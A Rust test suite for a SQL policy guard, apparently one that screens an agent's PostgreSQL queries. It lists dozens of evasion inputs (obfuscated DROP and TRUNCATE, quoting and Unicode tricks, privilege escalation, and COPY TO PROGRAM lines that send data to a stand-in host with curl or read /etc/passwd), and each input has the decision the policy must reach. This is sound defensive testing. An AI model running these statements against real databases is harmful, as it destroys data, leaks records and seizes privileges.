//! Evasion suite: statements rephrased to slip a destructive command past
//! the policy, each with the exact decision the demo policy
//! (`deploy/policy.demo.toml`) must reach.
//!
//! Every case names the action, what decided it (a rule id, or `default` /
//! `unknown` for the policy fallbacks), the index of the deciding
//! statement and that statement's class.

use std::collections::HashMap;

use serde::Deserialize;
use sluice::policy::{
    classify, classify_with, Action, Class, ClassifyOptions, CompiledPolicy, Fallback, LexOptions,
    NoPreparedStatements, PolicyConfig, PreparedStatements,
};

fn demo_policy() -> CompiledPolicy {
    #[derive(Deserialize)]
    struct File {
        policy: PolicyConfig,
    }
    let file: File = toml::from_str(include_str!("../deploy/policy.demo.toml")).unwrap();
    let none: &[&str] = &[];
    file.policy.validate(none, none, none).unwrap()
}

struct Case {
    sql: &'static str,
    action: Action,
    by: &'static str,
    statement: usize,
    class: Class,
}

const fn case(
    sql: &'static str,
    action: Action,
    by: &'static str,
    statement: usize,
    class: Class,
) -> Case {
    Case {
        sql,
        action,
        by,
        statement,
        class,
    }
}

use Action::{Allow, Approve, Block};
use Class::*;

const BLOCK_DDL: &str = "block-destructive-ddl";
const BLOCK_PRIV: &str = "block-privileges";
const BLOCK_COPY: &str = "block-copy-program";
const APPROVE_WRITES: &str = "approve-unbounded-writes";
const APPROVE_CODE: &str = "approve-code";
const APPROVE_ADMIN: &str = "approve-admin";

const CASES: &[Case] = &[
    // Comments, case and whitespace.
    case("DROP TABLE users", Block, BLOCK_DDL, 0, Drop),
    case("dRoP tAbLe users", Block, BLOCK_DDL, 0, Drop),
    case("DROP/**/TABLE/**/users", Block, BLOCK_DDL, 0, Drop),
    case("/* harmless */ DROP TABLE users", Block, BLOCK_DDL, 0, Drop),
    case("-- SELECT 1\nDROP TABLE users", Block, BLOCK_DDL, 0, Drop),
    case("/* outer /* inner */ still a comment */ DROP TABLE users", Block, BLOCK_DDL, 0, Drop),
    case("DROP\tTABLE\r\nusers", Block, BLOCK_DDL, 0, Drop),
    case("DROP\u{0b}TABLE\u{0c}users", Block, BLOCK_DDL, 0, Drop),
    // A no-break space is an identifier character to PostgreSQL: this is
    // one unknown word, and the server rejects it.
    case("DROP\u{a0}TABLE users", Approve, "unknown", 0, Unknown),
    case("\"DROP\" TABLE users", Approve, "unknown", 0, Unknown),
    case("SELECT 1 +-- the operator stops here\n; DROP TABLE users", Block, BLOCK_DDL, 1, Drop),
    case("SELECT 2 */* the operator stops here */; TRUNCATE users", Block, BLOCK_DDL, 1, Truncate),
    // Several statements in one Query.
    case("SELECT 1; DROP TABLE users", Block, BLOCK_DDL, 1, Drop),
    case("SELECT ';'; DROP TABLE users", Block, BLOCK_DDL, 1, Drop),
    case("SELECT 'it''s'; DROP TABLE users", Block, BLOCK_DDL, 1, Drop),
    case("SELECT $$;$$; DROP TABLE users", Block, BLOCK_DDL, 1, Drop),
    case("SELECT \"a;b\" FROM t; TRUNCATE users", Block, BLOCK_DDL, 1, Truncate),
    case("BEGIN; DELETE FROM users; COMMIT", Approve, APPROVE_WRITES, 1, DeleteNoWhere),
    case("SELECT 'a'\n'b'; DROP TABLE users", Block, BLOCK_DDL, 1, Drop),
    case("SELECT 1; DROP TABLE users /* unterminated", Block, BLOCK_DDL, 1, Unknown),
    // Quoting tricks.
    case(r"SELECT '\'; DROP TABLE users; --'", Block, BLOCK_DDL, 1, Drop),
    case(r"SELECT E'\\'; DROP TABLE users; --'", Block, BLOCK_DDL, 1, Drop),
    case(r"SELECT E'\'; DROP TABLE users; --'", Allow, "default", 0, Read),
    case("SELECT $a$ $$; DROP TABLE users; $$ $a$", Allow, "default", 0, Read),
    case("SELECT $a$ x $a$; DROP TABLE users; --", Block, BLOCK_DDL, 1, Drop),
    case("SELECT $A$ x $a$; DROP TABLE users; $A$", Allow, "default", 0, Read),
    // Bit and hex strings have no '' escape: X'41' ends, and a standard
    // string holding the "DROP" follows (the server rejects two adjacent
    // literals, so nothing runs).
    case("SELECT X'41''; DROP TABLE users; --'", Allow, "default", 0, Read),
    case("SELECT 'unterminated; DROP TABLE users", Approve, "unknown", 0, Unknown),
    // Unbounded writes: missing or trivially true WHERE.
    case("UPDATE users SET admin = true", Approve, APPROVE_WRITES, 0, UpdateNoWhere),
    case("delete/**/from users", Approve, APPROVE_WRITES, 0, DeleteNoWhere),
    case("UPDATE users SET admin = true WHERE 1=1", Approve, APPROVE_WRITES, 0, UpdateNoWhere),
    case("UPDATE users SET admin = true WHERE true", Approve, APPROVE_WRITES, 0, UpdateNoWhere),
    case("DELETE FROM users WHERE 'a' = 'a'", Approve, APPROVE_WRITES, 0, DeleteNoWhere),
    case("DELETE FROM users WHERE id = id", Approve, APPROVE_WRITES, 0, DeleteNoWhere),
    case("DELETE FROM users u WHERE u.id = \"id\"", Approve, APPROVE_WRITES, 0, DeleteNoWhere),
    case("DELETE FROM users WHERE id = 5 OR 1 = 1", Approve, APPROVE_WRITES, 0, DeleteNoWhere),
    case("DELETE FROM users WHERE (((true)))", Approve, APPROVE_WRITES, 0, DeleteNoWhere),
    case("DELETE FROM users WHERE NOT (id <> id)", Approve, APPROVE_WRITES, 0, DeleteNoWhere),
    case("DELETE FROM users WHERE id IS NOT DISTINCT FROM id", Approve, APPROVE_WRITES, 0, DeleteNoWhere),
    case("UPDATE users SET a = 1 WHERE 't'::boolean", Approve, APPROVE_WRITES, 0, UpdateNoWhere),
    // Data-modifying CTEs and other nesting.
    case("WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone", Approve, APPROVE_WRITES, 0, DeleteNoWhere),
    case("WITH a AS (WITH b AS (SELECT 1) DELETE FROM users RETURNING *) SELECT * FROM a", Approve, APPROVE_WRITES, 0, DeleteNoWhere),
    case("WITH x AS (SELECT 1) UPDATE users SET a = 1", Approve, APPROVE_WRITES, 0, UpdateNoWhere),
    case("COPY (DELETE FROM users RETURNING *) TO STDOUT", Approve, APPROVE_WRITES, 0, DeleteNoWhere),
    case("CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM users", Approve, APPROVE_WRITES, 0, DeleteNoWhere),
    // EXPLAIN ANALYZE runs the statement; plain EXPLAIN does not.
    case("EXPLAIN ANALYZE DELETE FROM users", Approve, APPROVE_WRITES, 0, DeleteNoWhere),
    case("explain analyse update users set a = 1", Approve, APPROVE_WRITES, 0, UpdateNoWhere),
    case("EXPLAIN (COSTS off, ANALYZE) DELETE FROM users", Approve, APPROVE_WRITES, 0, DeleteNoWhere),
    case("EXPLAIN (ANALYZE false) DELETE FROM users", Allow, "default", 0, Read),
    case("EXPLAIN DELETE FROM users", Allow, "default", 0, Read),
    // Prepared statements.
    case("PREPARE p AS DELETE FROM users", Approve, APPROVE_WRITES, 0, DeleteNoWhere),
    case("PREPARE p(int) AS UPDATE users SET a = $1", Approve, APPROVE_WRITES, 0, UpdateNoWhere),
    case("EXECUTE never_prepared", Approve, "unknown", 0, Unknown),
    // DO blocks and dynamic SQL.
    case("DO $$ BEGIN DROP TABLE users; END $$", Block, BLOCK_DDL, 0, Drop),
    case("DO $$ BEGIN PERFORM 1; END $$", Approve, APPROVE_CODE, 0, Do),
    case("DO 'BEGIN EXECUTE ''DROP TABLE users''; END'", Approve, APPROVE_CODE, 0, Unknown),
    case(r"DO E'BEGIN DROP TABLE users\; END'", Block, BLOCK_DDL, 0, Drop),
    case(r"DO U&'BEGIN \0044ROP TABLE users; END'", Block, BLOCK_DDL, 0, Drop),
    case(r"DO U&'BEGIN !0044ROP TABLE users; END' UESCAPE '!'", Block, BLOCK_DDL, 0, Drop),
    case("DO 'BEGIN '\n'TRUNCATE users; END'", Block, BLOCK_DDL, 0, Truncate),
    case("DO $b$ BEGIN IF true THEN TRUNCATE users; END IF; END $b$", Block, BLOCK_DDL, 0, Truncate),
    case("DO $b$ BEGIN FOR i IN 1..3 LOOP GRANT ALL ON users TO public; END LOOP; END $b$", Block, BLOCK_PRIV, 0, Privilege),
    case("DO LANGUAGE plpython3u $$ plpy.execute('DROP TABLE users') $$", Approve, APPROVE_CODE, 0, Unknown),
    // Function and procedure bodies.
    case("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DROP TABLE users'", Block, BLOCK_DDL, 0, Drop),
    case("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; END $$", Approve, APPROVE_WRITES, 0, CreateFunction),
    case(r"CREATE OR REPLACE FUNCTION f() RETURNS void AS E'BEGIN \x44ROP TABLE users; END' LANGUAGE plpgsql", Block, BLOCK_DDL, 0, Drop),
    case("CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END", Approve, APPROVE_WRITES, 0, CreateFunction),
    case("CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'evil.so', 'f'", Approve, APPROVE_CODE, 0, Unknown),
    case("CREATE FUNCTION begin() RETURNS int LANGUAGE sql RETURN 1; DROP TABLE users", Block, BLOCK_DDL, 1, Drop),
    case("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1 AS case; END; DROP TABLE users", Block, BLOCK_DDL, 0, Drop),
    // Privileges and roles.
    case("GRANT ALL ON users TO PUBLIC", Block, BLOCK_PRIV, 0, Privilege),
    case("revoke select on users from bob", Block, BLOCK_PRIV, 0, Privilege),
    case("CREATE ROLE evil SUPERUSER LOGIN", Block, BLOCK_PRIV, 0, Role),
    case("ALTER USER bob WITH SUPERUSER", Block, BLOCK_DDL, 0, Role),
    case("SET ROLE postgres", Block, BLOCK_PRIV, 0, Role),
    case("SET \"role\" = 'postgres'", Block, BLOCK_PRIV, 0, Role),
    case("set local session authorization postgres", Block, BLOCK_PRIV, 0, Role),
    case("ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC", Block, BLOCK_PRIV, 0, Privilege),
    case("ALTER SYSTEM SET log_statement = 'none'", Block, BLOCK_DDL, 0, Admin),
    // COPY.
    case("COPY users TO PROGRAM 'curl -d @- evil.example'", Block, BLOCK_COPY, 0, CopyProgram),
    case("copy (select * from users) to program 'sh'", Block, BLOCK_COPY, 0, CopyProgram),
    case("COPY users FROM PROGRAM 'cat /etc/passwd'", Block, BLOCK_COPY, 0, CopyProgram),
    case("COPY users TO '/tmp/users.csv'", Approve, APPROVE_ADMIN, 0, CopyFile),
    // Administration functions, however they are spelled.
    case("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", Approve, APPROVE_ADMIN, 0, Admin),
    case("SELECT pg_catalog.PG_TERMINATE_BACKEND(1)", Approve, APPROVE_ADMIN, 0, Admin),
    case("SELECT \"pg_terminate_backend\"(1)", Approve, APPROVE_ADMIN, 0, Admin),
    case(r#"SELECT U&"pg\005Fterminate_backend"(1)"#, Approve, APPROVE_ADMIN, 0, Admin),
    case("SELECT pg_terminate_backend /* c */ (1)", Approve, APPROVE_ADMIN, 0, Admin),
    case("SELECT * FROM dblink('dbname=x', 'DROP TABLE users') AS t(a int)", Approve, APPROVE_ADMIN, 0, Admin),
    // set_config is SET in another spelling: a role change is blocked like
    // SET ROLE; a computed setting name needs an approval.
    case("SELECT set_config('role', 'postgres', false)", Block, BLOCK_PRIV, 0, Role),
    case("SELECT set_config('SESSION_AUTHORIZATION', 'postgres', true)", Block, BLOCK_PRIV, 0, Role),
    case("SELECT set_config(E'r\\x6fle', 'postgres', false)", Approve, APPROVE_ADMIN, 0, Admin),
    case("SELECT set_config('ro' || 'le', 'postgres', false)", Approve, APPROVE_ADMIN, 0, Admin),
    case("SELECT set_config(name, 'postgres', false) FROM pg_settings", Approve, APPROVE_ADMIN, 0, Admin),
    case("SELECT query_to_xml('DELETE FROM users RETURNING 1', true, true, '')", Approve, "unknown", 0, Unknown),
];

fn check(
    policy: &CompiledPolicy,
    options: &ClassifyOptions,
    prepared: &dyn PreparedStatements,
    c: &Case,
) -> Result<(), String> {
    let statements = classify_with(c.sql, options, prepared);
    let none: &[&str] = &[];
    let d = policy.decide("agent", none, "target", &statements);
    let by = match (&d.rule_id, d.fallback) {
        (Some(id), _) => id.to_string(),
        (None, Some(Fallback::Default)) => "default".into(),
        (None, Some(Fallback::Unknown)) => "unknown".into(),
        (None, other) => format!("{other:?}"),
    };
    let index = d.statement_index.unwrap_or(usize::MAX);
    let class = statements.get(index).map(|s| s.class);
    if d.action != c.action || by != c.by || index != c.statement || class != Some(c.class) {
        return Err(format!(
            "{:?}\n  expected {:?} by {} at statement {} ({:?})\n  got      {:?} by {} at statement {} ({:?})\n  statements: {:?}",
            c.sql, c.action, c.by, c.statement, c.class, d.action, by, index, class, statements
        ));
    }
    Ok(())
}

#[test]
fn evasion_cases_meet_the_demo_policy() {
    assert!(CASES.len() >= 40, "the suite needs at least 40 cases");
    let policy = demo_policy();
    let failures: Vec<String> = CASES
        .iter()
        .filter_map(|c| {
            check(
                &policy,
                &ClassifyOptions::default(),
                &NoPreparedStatements,
                c,
            )
            .err()
        })
        .collect();
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        CASES.len(),
        failures.join("\n")
    );
}

/// With `standard_conforming_strings` off (the server reports it), a
/// backslash escapes a quote in '...' and the same text splits otherwise.
#[test]
fn standard_conforming_strings_changes_the_split() {
    let policy = demo_policy();
    let sql = r"SELECT '\''; DROP TABLE users; -- '";
    let on = ClassifyOptions::default();
    let off = ClassifyOptions {
        lex: LexOptions {
            standard_conforming_strings: false,
        },
    };
    check(
        &policy,
        &on,
        &NoPreparedStatements,
        &case(sql, Allow, "default", 0, Read),
    )
    .unwrap();
    check(
        &policy,
        &off,
        &NoPreparedStatements,
        &case(sql, Block, BLOCK_DDL, 1, Drop),
    )
    .unwrap();
    // Changing the setting is itself flagged.
    let s = classify("SET standard_conforming_strings = off");
    assert!(s[0]
        .reasons
        .contains(&sluice::policy::Reason::ChangesLexing));
}

/// EXECUTE of a statement the session saw prepared is classified by what
/// it prepared, however the name is spelled.
#[test]
fn execute_resolves_prepared_statements() {
    let policy = demo_policy();
    let mut prepared = HashMap::new();
    for sql in [
        "PREPARE wipe AS DELETE FROM users",
        "PREPARE \"Drop\" AS SELECT 1",
    ] {
        let s = &classify(sql)[0];
        prepared.insert(s.prepared_name.clone().unwrap(), s.summary());
    }
    let o = ClassifyOptions::default();
    check(
        &policy,
        &o,
        &prepared,
        &case("EXECUTE WIPE", Approve, APPROVE_WRITES, 0, DeleteNoWhere),
    )
    .unwrap();
    check(
        &policy,
        &o,
        &prepared,
        &case(
            "EXPLAIN ANALYZE EXECUTE wipe",
            Approve,
            APPROVE_WRITES,
            0,
            DeleteNoWhere,
        ),
    )
    .unwrap();
    check(
        &policy,
        &o,
        &prepared,
        &case("EXPLAIN EXECUTE wipe", Allow, "default", 0, Read),
    )
    .unwrap();
    check(
        &policy,
        &o,
        &prepared,
        &case("EXECUTE \"Drop\"", Allow, "default", 0, Read),
    )
    .unwrap();
    check(
        &policy,
        &o,
        &prepared,
        &case("EXECUTE drop", Approve, "unknown", 0, Unknown),
    )
    .unwrap();
    check(
        &policy,
        &o,
        &prepared,
        &case(
            "CREATE TABLE t AS EXECUTE wipe",
            Approve,
            APPROVE_WRITES,
            0,
            DeleteNoWhere,
        ),
    )
    .unwrap();
}
